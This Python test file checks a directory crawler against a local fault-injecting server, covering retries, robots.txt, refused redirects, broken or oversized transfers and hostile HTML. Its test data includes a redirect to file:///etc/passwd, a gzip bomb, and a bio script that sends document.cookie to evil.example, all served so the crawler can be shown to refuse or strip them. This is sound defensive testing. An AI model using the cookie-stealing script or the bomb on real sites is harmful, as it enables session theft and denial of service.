"""Hostile and broken servers: real `knead crawl` runs against tests/faultserver.py.

Each test starts a fault-injecting AMTA-style site on 127.0.0.1, crawls it with
the installed `knead` in a subprocess (Twisted's reactor cannot restart), and
asserts on three things: the store of record, the crawl summary, and the
server's own request log (arrival times on the server's clock).

Crawls that need small timeouts or backoff run the same CLI through a
three-line wrapper that adds Scrapy settings to `spiders.run.crawl_settings`;
everything else (click, run_crawl, pipelines, store, summary) is the real path.
"""

from __future__ import annotations

import itertools
import json
import os
import re
import sqlite3
import sys
import time
from contextlib import closing
from dataclasses import dataclass
from email.utils import formatdate, parsedate_to_datetime
from pathlib import Path
from typing import Any

import pytest

from index.records.store import RecordStore

sys.path.insert(0, str(Path(__file__).parent))
from faultserver import PER_PAGE, FaultServer, profile_html  # noqa: E402

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # the benchmark harness is the repository's package
from tests.benchmarks.measure import run_child  # noqa: E402

KNEAD = str(Path(sys.executable).with_name("knead"))
_WITH_SETTINGS = """
import json, sys
import spiders.run
overrides = json.loads(sys.argv[1])
project_settings = spiders.run.crawl_settings
def crawl_settings(**kwargs):
    settings = project_settings(**kwargs)
    settings.setdict(overrides, priority="cmdline")
    return settings
spiders.run.crawl_settings = crawl_settings
from search_cli.main import cli
cli(sys.argv[2:], prog_name="knead")
"""
# Small waits so the whole file stays fast; the defaults are in spiders/settings.py.
# DOWNLOAD_DELAY 0.001, not 0: with no delay Scrapy 2.19 (asyncio) sends every queued request of
# a host at once, whatever CONCURRENT_REQUESTS_PER_DOMAIN says (see the report).
FAST = {"KNEAD_BACKOFF_BASE": 0.05, "DOWNLOAD_TIMEOUT": 5, "DOWNLOAD_DELAY": 0.001}


@dataclass
class Crawl:
    returncode: int
    stdout: str
    stderr: str
    stats: dict[str, Any]
    found: dict[str, dict[str, Any]]  # the listings this crawl collected, published or not
    published: dict[str, dict[str, Any]]  # what searches see after it
    peak_kib: int  # the crawl process's peak memory (its maxrss)

    def failed(self) -> list[str]:
        """The "URL (reason)" lines under "URLs failed" in the summary."""
        lines = self.stdout.splitlines()
        start = next(i for i, line in enumerate(lines) if line.startswith("  URLs failed:"))
        return [line.strip() for line in lines[start + 1 :] if line.startswith("    ")]

    def ended_cleanly(self) -> bool:
        """A summary, and an exit code the CLI chose (0, or 1 when the publish gate said no)."""
        return self.returncode in (0, 1) and self.stdout.startswith("Crawl of amta") and "Traceback" not in self.stdout


def crawl(data_dir: Path, *start_urls: str, settings: dict[str, Any] | None = None, args: tuple[str, ...] = ()) -> Crawl:
    command = [KNEAD] if settings is None else [sys.executable, "-c", _WITH_SETTINGS, json.dumps(settings)]
    command += ["--data-dir", str(data_dir), "crawl", "amta", "--delay", "0", "--no-index", *args]
    for url in start_urls:
        command += ["--start-url", url]
    env = {k: v for k, v in os.environ.items() if k != "KNEAD_DATA_DIR"}
    # The crawl process's own peak (its rusage when reaped): the test process's RUSAGE_CHILDREN would
    # hold the largest child it ever had (another test's build).
    result = run_child(command, env=env, timeout=90)
    stats: dict[str, Any] = {}
    found: dict[str, dict[str, Any]] = {}
    published: dict[str, dict[str, Any]] = {}
    path = data_dir / "records.sqlite3"
    if path.exists():
        with RecordStore(path) as store:
            crawls = store.crawls()
            published = {row["id"]: row for row in store.listings()}
            if crawls:
                crawl_id = crawls[-1]["id"]
                stats = crawls[-1]["stats"]
                # Staged until published; once published, the listings carry the crawl's id.
                found = {row["id"]: row for row in store.staged_listings(crawl_id)}
                with closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as db:
                    ids = {i for (i,) in db.execute("SELECT id FROM listings WHERE crawl_id = ?", (crawl_id,))}
                found.update({i: published[i] for i in ids if i in published})
    return Crawl(result.returncode, result.stdout, result.stderr, stats, found, published, round(result.peak_rss_mb * 1024))


def slug_id(site: FaultServer, i: int) -> str:
    return f"amta:{site.therapists[i]['slug']}"


# -- 429 / 503 and Retry-After -------------------------------------------------------


def test_429_and_503_retry_after_pause_the_whole_host(tmp_path):
    date_sent: list[str] = []

    def two_seconds_from_now() -> str:
        date_sent.append(formatdate(time.time() + 2, usegmt=True))
        return date_sent[-1]

    with FaultServer(profiles=7) as site:
        page2, page3 = site.results_path(2), site.results_path(3)
        site.fault(page2, "status", status=429, headers={"Retry-After": "1"}, times=1)
        site.fault(page3, "status", status=503, headers={"Retry-After": two_seconds_from_now}, times=1)
        run = crawl(tmp_path, site.start_url, settings=FAST)
        log = site.log()
    assert run.returncode == 0, run.stderr[-2000:]
    first_429 = next(i for i, r in enumerate(log) if r.path == page2)
    first_503 = next(i for i, r in enumerate(log) if r.path == page3)
    assert first_429 < first_503
    timeline = [(r.path, round(r.at - log[first_429].at, 3)) for r in log]
    # Retry-After in seconds: nothing at all, not even the profiles already queued, for 1 s.
    assert log[first_429 + 1].at - log[first_429].at >= 1.0, timeline
    # Retry-After as an HTTP date: nothing before that moment (on the server's wall clock).
    assert log[first_503 + 1].wall >= parsedate_to_datetime(date_sent[0]).timestamp(), timeline
    paths = [r.path for r in log]
    assert paths.count(page2) == 2 and paths.count(page3) == 2
    assert paths[first_429 + 1 :].count(page2) == 1
    assert len(run.found) == 7
    assert "URLs failed:          0" in run.stdout
    assert run.stats["knead/retry_after_honoured"] == 2


def test_retry_after_beyond_the_cap_gives_up_on_the_host(tmp_path):
    with FaultServer(profiles=5) as site:
        page2 = site.results_path(2)
        site.fault(page2, "status", status=429, headers={"Retry-After": "3600"})
        run = crawl(tmp_path, site.start_url, settings={**FAST, "KNEAD_RETRY_AFTER_MAX": 5})
        log = site.log()
    refused = next(i for i, r in enumerate(log) if r.path == page2)
    assert log[refused + 1 :] == []  # not one more request to that host
    failed = run.failed()
    assert f"{site.url}{page2} (HTTP 429)" in failed
    # Page 1's profiles still queued when page 2 comes back fail without being sent (how many
    # are still queued then depends on timing); none is lost: each is either stored or failed.
    waiting = [line for line in failed if "/famt/" in line]
    assert all(line.endswith("(host asked to wait: Retry-After 3600 s is over KNEAD_RETRY_AFTER_MAX)") for line in waiting)
    fetched_profiles = {r.path for r in log if "/famt/" in r.path}
    assert len(fetched_profiles) + len(waiting) == PER_PAGE  # page 1's profiles, all accounted for
    assert f"URLs failed:          {len(failed)}" in run.stdout
    assert run.stats["knead/retry_after_too_long"] == 1
    assert run.ended_cleanly(), run.stderr[-2000:]


def test_other_5xx_are_retried_with_exponential_backoff_then_failed(tmp_path):
    with FaultServer(profiles=3) as site:
        broken = site.profile_path(1)
        site.fault(broken, "status", status=500)
        run = crawl(tmp_path, site.start_url, settings={**FAST, "KNEAD_BACKOFF_BASE": 0.1, "RETRY_TIMES": 3})
        attempts = [r.at for r in site.log(broken)]
    assert run.ended_cleanly(), run.stderr[-2000:]
    assert len(attempts) == 4
    gaps = [b - a for a, b in itertools.pairwise(attempts)]
    assert all(gap >= wait for gap, wait in zip(gaps, (0.1, 0.2, 0.4))), gaps
    assert "URLs failed:          1" in run.stdout
    assert run.failed() == [f"{site.url}{broken} (HTTP 500)"]
    assert set(run.found) == {slug_id(site, 0), slug_id(site, 2)}


def test_timeouts_are_retried_with_backoff_then_failed(tmp_path):
    with FaultServer(profiles=3) as site:
        hanging = site.profile_path(1)
        site.fault(hanging, "hang")
        settings = {**FAST, "KNEAD_BACKOFF_BASE": 0.3, "RETRY_TIMES": 2, "DOWNLOAD_TIMEOUT": 0.5}
        run = crawl(tmp_path, site.start_url, settings=settings)
        attempts = [r.at for r in site.log(hanging)]
    assert run.ended_cleanly(), run.stderr[-2000:]
    assert len(attempts) == 3
    gaps = [b - a for a, b in itertools.pairwise(attempts)]
    assert gaps[0] >= 0.5 + 0.3 and gaps[1] >= 0.5 + 0.6, gaps  # the timeout, then the backoff
    assert run.failed() == [f"{site.url}{hanging} (DownloadTimeoutError)"]
    assert len(run.found) == 2


# -- robots.txt ----------------------------------------------------------------------


def test_robots_txt_unavailable_disallows_the_host_and_404_allows_it(tmp_path):
    with FaultServer() as answers_503, FaultServer() as hangs, FaultServer() as drops, FaultServer() as missing:
        answers_503.fault("/robots.txt", "status", status=503)
        hangs.fault("/robots.txt", "hang")
        drops.fault("/robots.txt", "drop")
        missing.fault("/robots.txt", "status", status=404)
        disallowed = (answers_503, hangs, drops)
        settings = {**FAST, "RETRY_TIMES": 1, "DOWNLOAD_TIMEOUT": 0.5}
        run = crawl(tmp_path, *(s.start_url for s in (*disallowed, missing)), settings=settings)
        paths = {id(s): s.paths() for s in (*disallowed, missing)}
    assert run.ended_cleanly(), run.stderr[-2000:]
    for site in disallowed:  # nothing but robots.txt, and its one retry
        assert paths[id(site)] == ["/robots.txt", "/robots.txt"]
        assert site.start_url in run.stdout
    assert "skipped (robots.txt): 3" in run.stdout
    assert run.stats["robotstxt/unavailable_disallow_all"] == 3
    assert set(run.found) == {f"amta:{t['slug']}" for t in missing.therapists}
    assert len(paths[id(missing)]) == 1 + 2 + 3  # robots.txt, two results pages, three profiles


# -- redirects -----------------------------------------------------------------------


def test_redirects_off_site_to_other_schemes_and_in_loops_are_refused_and_counted(tmp_path):
    with FaultServer(profiles=9) as site, FaultServer() as other:
        p = site.profile_path
        localhost = f"http://localhost:{site.port}"
        site.fault(p(0), "redirect", location="file:///etc/passwd")
        site.fault(p(1), "redirect", location='data:text/html,<h1 class="adage-heading-title">Evil</h1>')
        site.fault(p(2), "redirect", location="ftp://127.0.0.1/famt/x")
        site.fault(p(3), "redirect", location=localhost + p(3))  # same server, another host name
        site.fault(p(4), "redirect", location=other.url + other.profile_path(0))  # same host, another port
        site.fault(p(5), "redirect", location="/famt/loop-b")
        site.fault("/famt/loop-b", "redirect", location=p(5), status=301)
        site.fault(p(6), "redirect", location="/hop/1")
        for hop in range(1, 10):
            site.fault(f"/hop/{hop}", "redirect", location=f"/hop/{hop + 1}")
        site.fault(p(7), "redirect", location="/famt/moved-7", status=301)  # an ordinary move: followed
        site.serve("/famt/moved-7", profile_html(site.therapists[7]))
        site.serve(p(8), f'<html><head><meta http-equiv="refresh" content="0; url={localhost}/famt/x"></head></html>')
        site.fault("/go", "redirect", location=localhost + site.results_path(1))  # a start URL that leaves
        run = crawl(tmp_path, site.start_url, site.url + "/go")
        log, other_log = site.log(), other.log()

    assert run.ended_cleanly(), run.stderr[-2000:]
    assert {r.host for r in log} == {f"127.0.0.1:{site.port}"}
    assert other_log == []
    paths = [r.path for r in log]
    assert paths.count("/famt/loop-b") == 1 and paths.count(p(5)) == 1
    assert "/hop/5" in paths and "/hop/6" not in paths  # REDIRECT_MAX_TIMES = 5

    refused = {k.rsplit("/", 1)[1]: v for k, v in run.stats.items() if k.startswith("knead/redirect_refused/")}
    assert refused == {"scheme": 3, "other_host": 4, "loop": 1, "too_many": 1}
    failed = run.failed()
    assert f"{site.url}{p(0)} (redirect refused: scheme: file:///etc/passwd)" in failed
    assert f"{site.url}{p(3)} (redirect refused: other host: {localhost}{p(3)})" in failed
    assert f"{site.url}{p(5)} (redirect refused: loop: {site.url}{p(5)})" in failed
    assert f"{site.url}/go (redirect refused: other host: {localhost}{site.results_path(1)})" in failed
    assert f"{site.url}{p(8)} (redirect refused: other host: {localhost}/famt/x)" in failed
    assert "URLs failed:          9" in run.stdout

    assert set(run.found) == {"amta:moved-7"}
    assert run.found["amta:moved-7"]["name"] == site.therapists[7]["name"]


# -- broken transfers ------------------------------------------------------------------


def test_broken_transfers_are_bounded_counted_and_never_overwrite_a_good_listing(tmp_path):
    with FaultServer(profiles=9) as site:
        first = crawl(tmp_path, site.start_url, settings=FAST)
        assert first.returncode == 0, first.stderr[-2000:]
        assert len(first.published) == 9

        p = site.profile_path
        site.fault(p(0), "hang")
        site.fault(p(1), "slow", interval=0.2)
        site.fault(p(2), "truncate")
        site.fault(p(3), "drop")
        site.fault(p(4), "bad_chunked")
        site.fault(p(5), "gzip_bomb", size=64 * 1024 * 1024)
        site.fault(p(6), "huge", size=50 * 1024 * 1024)
        site.fault(p(7), "huge", size=50 * 1024 * 1024, length=False)
        # 3 s: long enough to inflate the bomb on a loaded machine, short for the hanging pages.
        settings = {**FAST, "RETRY_TIMES": 1, "DOWNLOAD_TIMEOUT": 3}
        second = crawl(tmp_path, site.start_url, settings=settings, args=("--concurrency", "4"))

    assert second.ended_cleanly(), second.stderr[-2000:]
    assert second.peak_kib < 400 * 1024  # 50 MB pages and a 64 MB bomb never held in memory
    reasons = {line.split(" ", 1)[0]: line.split(" ", 1)[1] for line in second.failed()}
    expected = {
        0: "(DownloadTimeoutError)",
        1: "(DownloadTimeoutError)",
        2: "(ResponseDataLossError)",
        3: "(DownloadFailedError)",
        4: "(ResponseDataLossError)",
        5: "(decompressed body over DOWNLOAD_MAXSIZE)",
        6: "(DownloadCancelledError)",
        7: "(DownloadCancelledError)",
    }
    assert reasons == {site.url + p(i): why for i, why in expected.items()}
    assert "URLs failed:          8" in second.stdout
    assert "listings stored:      1 (0 new, 0 changed, 1 unchanged)" in second.stdout
    assert second.stats.get("listings/malformed_page", 0) == 0  # nothing broken reached the parser
    assert set(second.found) == {slug_id(site, 8)}  # nor became a listing
    # The good listings from the first crawl are kept, field for field.
    keep = ("name", "business", "phone", "email", "bio", "techniques", "languages", "street", "city", "zip")
    for listing_id, before in first.published.items():
        after = second.published[listing_id]
        assert {k: after[k] for k in keep} == {k: before[k] for k in keep}


def test_a_truncated_page_is_never_parsed_even_when_data_loss_is_allowed(tmp_path):
    # DOWNLOAD_FAIL_ON_DATALOSS off (or download_fail_on_dataloss in a request's meta)
    # hands Scrapy a response flagged "dataloss": knead still refuses to parse it.
    with FaultServer(profiles=3) as site:
        site.fault(site.profile_path(0), "truncate", keep=0.6)
        run = crawl(tmp_path, site.start_url, settings={**FAST, "DOWNLOAD_FAIL_ON_DATALOSS": False})
    assert run.ended_cleanly(), run.stderr[-2000:]
    assert run.failed() == [f"{site.url}{site.profile_path(0)} (truncated body)"]
    assert set(run.found) == {slug_id(site, 1), slug_id(site, 2)}


# -- encodings and hostile content -----------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_pages(tmp_path_factory):
    """One crawl of profiles in wrong encodings, with hostile HTML and absurd fields."""
    name = "María López-Ñúñez"
    with FaultServer(profiles=8) as site:
        p, t = site.profile_path, site.therapists
        # windows-1252 bytes served as UTF-8 (the <meta> tells the truth)
        site.fault(p(0), "body", body=profile_html({**t[0], "name": name}, charset="windows-1252").encode("cp1252"),
                   content_type="text/html; charset=utf-8")
        # UTF-8 bytes served as ISO-8859-1 (the commonest mislabel)
        site.fault(p(1), "body", body=profile_html({**t[1], "name": name}, charset=None).encode("utf-8"),
                   content_type="text/html; charset=iso-8859-1")
        # UTF-8 with a BOM, mislabelled in the header and the <meta>
        site.fault(p(2), "body", body=b"\xef\xbb\xbf" + profile_html({**t[2], "name": name}, charset="iso-8859-1").encode(),
                   content_type="text/html; charset=iso-8859-1")
        # UTF-16 with a BOM, no charset anywhere
        site.fault(p(3), "body", body=profile_html({**t[3], "name": name}, charset=None).encode("utf-16"),
                   content_type="text/html")
        # HTML, scripts and styles around the bio's paragraphs
        site.serve(p(4), profile_html(t[4], bio_html=(
            '<p>I <b>love</b> <a href="https://x.example/">deep tissue</a> work.</p>'
            "<script>document.location='https://evil.example/?c='+document.cookie</script>"
            "<style>body{display:none}</style><p>Book <i>today</i>!</p>"
        )))
        # absurdly long fields
        long_t = {**t[5], "name": "Ana " + "Silva" * 40_000, "business": "B" * 100_000,
                  "techniques": [f"Technique {n}" for n in range(5000)]}
        site.serve(p(5), profile_html(long_t, bio_html="<p>" + "relax " * 200_000 + "</p>"))
        # control characters and a NUL in the name
        site.serve(p(6), profile_html({**t[6], "name": "Grace\x00 Levin\x1b\x07"}))
        # a script inside a bio paragraph
        site.serve(p(7), profile_html(t[7], bio_html="<p>Gentle work.<script>steal(document.cookie)</script></p>"))
        run = crawl(tmp_path_factory.mktemp("hostile"), site.start_url, settings=FAST)
        ids = [slug_id(site, i) for i in range(8)]
    assert run.returncode == 0, run.stderr[-2000:]
    return name, run, [run.found[i] for i in ids]


def test_wrong_encodings_boms_and_hostile_html_are_stored_as_bounded_text(hostile_pages):
    name, run, rows = hostile_pages
    assert "URLs failed:          0" in run.stdout
    for i in range(4):
        assert rows[i]["name"] == name, (i, rows[i]["name"])
    assert run.stats["knead/charset_mislabelled"] == 2

    bio = rows[4]["bio"]
    assert "I love deep tissue work." in bio and "Book today!" in bio
    assert "<" not in bio and "display:none" not in bio and "evil.example" not in bio

    long_row = rows[5]
    assert len(long_row["name"]) <= 500 and len(long_row["business"]) <= 500
    assert len(long_row["bio"]) <= 5000 and long_row["bio"].startswith("relax relax")
    assert len(long_row["techniques_raw"]) <= 100

    assert rows[6]["name"] == "Grace Levin"
    for row in rows:
        for value in row.values():
            for text in value if isinstance(value, list) else [value]:
                if isinstance(text, str):
                    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufeff\ufffd]", text), (row["id"], text[:80])


def test_a_script_inside_a_bio_paragraph_is_not_stored(hostile_pages):
    _, _, rows = hostile_pages
    assert rows[7]["bio"] == "Gentle work."
